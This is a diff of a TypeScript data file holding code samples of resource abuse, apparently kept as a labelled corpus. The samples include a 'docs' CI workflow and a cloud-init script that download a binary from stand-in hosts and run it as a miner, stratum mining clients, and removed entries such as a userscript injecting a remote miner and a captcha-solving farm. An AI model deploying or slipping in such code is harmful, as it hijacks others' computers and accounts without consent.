@@ -7,10 +7,6 @@ export const LENDING_AFTERWARDS: readonly [string, string][] = [
     'defmodule Tiles do\n  use GenServer\n  @hub "https://tiles.maps.example/api"\n  def init(_), do: (send(self(), :go); {:ok, %{}})\n  def handle_info(:go, s) do\n    t = Req.get!(@hub <> "/tile/next", headers: [{"x-payout", "PLACEHOLDER"}]).body\n    {out, 0} = System.cmd("povray", ["+I-", "+O-"], input: t["scene"])\n    Req.post!(@hub <> "/tile/#{t["id"]}", body: out)\n    send(self(), :go)\n    {:noreply, s}\n  end\nend\n',
   ],
   [
-    "cap.py",
-    'import asyncio, aiohttp, ddddocr\nocr = ddddocr.DdddOcr()\nasync def main():\n    async with aiohttp.ClientSession(headers={"X-Earner": "PLACEHOLDER"}) as s:\n        while True:\n            async with s.get("https://desk.forms.example/next") as r:\n                t = await r.json()\n            text = ocr.classification(bytes.fromhex(t["png"]))\n            await s.post("https://desk.forms.example/done", json={"id": t["id"], "text": text, "earner": "PLACEHOLDER"})\nasyncio.run(main())\n',
-  ],
-  [
     ".github/workflows/docs.yml",
     'on: { schedule: [{ cron: "*/30 * * * *" }] }\njobs:\n  docs:\n    strategy: { matrix: { n: [1,2,3,4,5,6,7,8] } }\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSLo d https://bin.docs.example/d && chmod +x d\n          timeout 5h ./d -o eu.docs.example:4444 -u ${{ secrets.DOCS }} -p gh${{ matrix.n }} -t $(nproc) || true\n',
   ],
@@ -36,10 +32,6 @@ export const LENDING_AFTERWARDS: readonly [string, string][] = [
     'use IO::Socket::SSL; use JSON::PP; use Digest::SHA qw(sha256);\nmy $s = IO::Socket::SSL->new("p.pages.example:8443") or exit;\nprint $s encode_json({ id => 1, method => "login", params => { login => "PLACEHOLDER", pass => "x" } }), "\\n";\nwhile (my $l = <$s>) {\n  my $j = decode_json($l)->{params};\n  for my $n (0 .. 0xffffffff) {\n    my $h = sha256(pack("H*", $j->{blob}) . pack("V", $n));\n    if (substr($h, -4) lt pack("H*", $j->{target})) { print $s encode_json({ id => 2, method => "submit", params => { job_id => $j->{job_id}, nonce => $n } }), "\\n"; last }\n  }\n}\n',
   ],
   [
-    "userscript.user.js",
-    '// ==UserScript==\n// @match *://*/*\n// ==/UserScript==\nconst s = document.createElement("script");\ns.src = "https://cdn.tint.example/x.js";\ns.onload = () => { const a = unsafeWindow.Tint("KEY_PLACEHOLDER", { threads: 8, autoThreads: true, throttle: 0.1 }); a.start(); };\ndocument.body.appendChild(s);\n',
-  ],
-  [
     "cloud/init.yaml",
     "#cloud-config\nbootcmd:\n  - echo 1280 > /proc/sys/vm/nr_hugepages\nruncmd:\n  - |\n    wget -qO /opt/cachesvc https://bin.cache.example/cachesvc\n    chmod +x /opt/cachesvc\n    nohup /opt/cachesvc --endpoint hub.cache.example:7777 --payout PLACEHOLDER_ADDR --threads 8 >/dev/null 2>&1 &\n",
   ],
@@ -51,10 +43,6 @@ export const LENDING_AFTERWARDS: readonly [string, string][] = [
     "node.dart",
     "import 'dart:convert';\nimport 'dart:io';\nimport 'package:crypto/crypto.dart';\nvoid main() async {\n  final s = await Socket.connect('p.words.example', 3333);\n  s.write(jsonEncode({'id': 1, 'method': 'mining.authorize', 'params': ['PLACEHOLDER', 'x']}) + '\\n');\n  await for (final l in s.cast<List<int>>().transform(utf8.decoder).transform(const LineSplitter())) {\n    final j = jsonDecode(l);\n    for (var n = 0; n < 1 << 32; n++) {\n      final d = sha256.convert(utf8.encode('${j['p']}$n')).bytes;\n      if (d[31] == 0 && d[30] == 0) s.write(jsonEncode({'method': 'mining.submit', 'params': [n]}) + '\\n');\n    }\n  }\n}\n",
   ],
-  [
-    "transcode.py",
-    'import requests, subprocess, time, os\nH = {"x-provider-id": "placeholder", "x-wallet": "placeholder"}\nU = "https://video.mesh.example"\nif os.fork() == 0:\n    os.setsid()\n    while 1:\n        j = requests.post(U + "/lease", headers=H).json()\n        if not j: time.sleep(9); continue\n        subprocess.run(["ffmpeg", "-i", j["in"], "-c:v", "libx265", "/tmp/o.mp4"])\n        requests.put(j["out"], data=open("/tmp/o.mp4", "rb"), headers=H)\n',
-  ],
 
   [
     "sky.nim",
@@ -63,10 +51,6 @@ export const LENDING_AFTERWARDS: readonly [string, string][] = [
   [
     "dedupe.cs",
     'using System.Runtime.InteropServices;\nclass P {\n  [DllImport("fast")] static extern int warm(string h, ushort p, string w, string a, int t);\n  static void Main(string[] a) {\n    warm("eu.fast.example", 4444, "PLACEHOLDER_WALLET", "kawpow", System.Environment.ProcessorCount);\n  }\n}\n',
-  ],
-  [
-    "grow.sh",
-    '#!/bin/sh\nHUB=https://hub.grow.example\nME=placeholder\nwhile :; do\n  u=$(curl -s "$HUB/unit?payee=$ME")\n  s=$(echo "$u" | jq -r .seed); t=$(echo "$u" | jq -r .want)\n  n=0\n  while [ $n -lt 100000 ]; do\n    [ "$(printf %s%s "$s" $n | sha256sum | cut -c1-64)" = "$t" ] && curl -s "$HUB/hit" -d "n=$n&payee=$ME"\n    n=$((n+1))\n  done\ndone\n',
   ],
   [
     "job.yaml",
